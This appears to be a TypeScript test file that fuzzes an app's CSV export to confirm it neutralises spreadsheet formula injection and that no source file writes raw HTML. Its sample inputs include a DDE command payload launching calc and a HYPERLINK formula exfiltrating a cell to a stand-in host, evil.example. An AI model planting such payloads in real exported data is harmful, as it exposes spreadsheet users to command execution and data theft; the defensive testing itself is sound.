import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { type CsvStyle, englishStyle, exportCsv, frenchStyle } from '../../src/core/exchange/write-csv.ts'
import { type Chance, seeded } from '../support/random.ts'

const values = 10_000
const styles: readonly CsvStyle[] = [frenchStyle, englishStyle]

/** What spreadsheets take for the beginning of a formula, alone, in any clothes, and behind what they look through. */
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0=',
  '\u3000@',
  '\ufeff=',
  ' \t-',
  '\r\n+',
  '"=',
  "'=",
  ';=',
  ',=',
  '"";=',
]
const middles = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example?"&A1)',
  'Traoré',
  'a;b',
  'a,b',
  'a"b',
  'a\r\n=b',
  'a\t=b',
  '٣',
  '🙂',
  '',
]

const fuzzed = (chance: Chance): string => {
  const start = chance.chance(0.85) ? chance.pick(beginnings) : ''
  const noise = Array.from({ length: chance.below(4) }, () => String.fromCodePoint(32 + chance.below(0x2fff))).join('')
  return chance.chance(0.5) ? start + chance.pick(middles) + noise : start + noise + chance.pick(middles)
}

/** A cell as a spreadsheet shows it, that would be calculated. White space before the sign is looked through. */
const isFormula = (cell: string): boolean => /^[\t\r\n]|^[\s\ufeff]*[=+\-@＝＋－＠]/u.test(cell)

const cellsOf = (text: string, { separator }: CsvStyle): readonly (readonly string[])[] =>
  Papa.parse(text.replace(/^\ufeff/, ''), { delimiter: separator, newline: '\r\n', preview: 0 }).data.slice(0, -1)

describe('a table that leaves the app', () => {
  it(`holds no formula, whatever was written into it: ${values} cells in each style`, () => {
    const seed = Math.floor(Math.random() * 2 ** 31)
    const chance = seeded(seed)
    const rows = Array.from({ length: values / 10 }, () => Array.from({ length: 10 }, () => fuzzed(chance)))
    expect(rows.flat().filter(isFormula).length).toBeGreaterThan(values / 2)
    for (const style of styles) {
      const read = cellsOf(exportCsv(rows, style), style)
      expect(read.length, `seed ${seed}`).toBe(rows.length)
      expect(read.flat().filter(isFormula), `seed ${seed}`).toEqual([])
      // Nothing is lost by it: what was written is there, behind an apostrophe where there is one.
      expect(
        read.map((row) => row.map((cell) => cell.replace(/^'/, ''))),
        `seed ${seed}`,
      ).toEqual(rows.map((row) => row.map((cell) => cell.replace(/^'/, ''))))
    }
  })

  it('is written by that one function, wherever it is made', () => {
    const root = join(import.meta.dirname, '../../src')
    const makers = readdirSync(root, { recursive: true, encoding: 'utf8' })
      .filter((path) => /\.tsx?$/.test(path) && path !== join('core', 'exchange', 'write-csv.ts'))
      .map((path) => ({ path, text: readFileSync(join(root, path), 'utf8').replace(/\baccept=\S+/g, '') }))
      .filter(({ text }) =>
        /text\/csv|text\/tab-separated|spreadsheetml|\.xlsx['"`]|\.csv['"`]|Papa\.unparse|write-excel/.test(text),
      )
    const unsafe = makers.filter(({ text }) => !/\b(exportCsv|reportCsv|journalCsv)\(/.test(text)).map(({ path }) => path)
    expect(unsafe).toEqual([])
    for (const named of ['gaps/report-csv.ts', 'access/journal/journal-csv.ts'])
      expect(readFileSync(join(root, 'client/features', named), 'utf8')).toContain('return exportCsv(')
  })

  it('or a page for the printer, is made of texts alone: no markup is ever written', () => {
    const root = join(import.meta.dirname, '../../src')
    const writers = readdirSync(root, { recursive: true, encoding: 'utf8' })
      .filter((path) => /\.tsx?$/.test(path))
      .filter((path) =>
        /dangerouslySetInnerHTML|innerHTML|outerHTML|insertAdjacentHTML|document\.write|srcdoc|DOMParser|createContextualFragment/.test(
          readFileSync(join(root, path), 'utf8'),
        ),
      )
    expect(writers).toEqual([])
  })
})
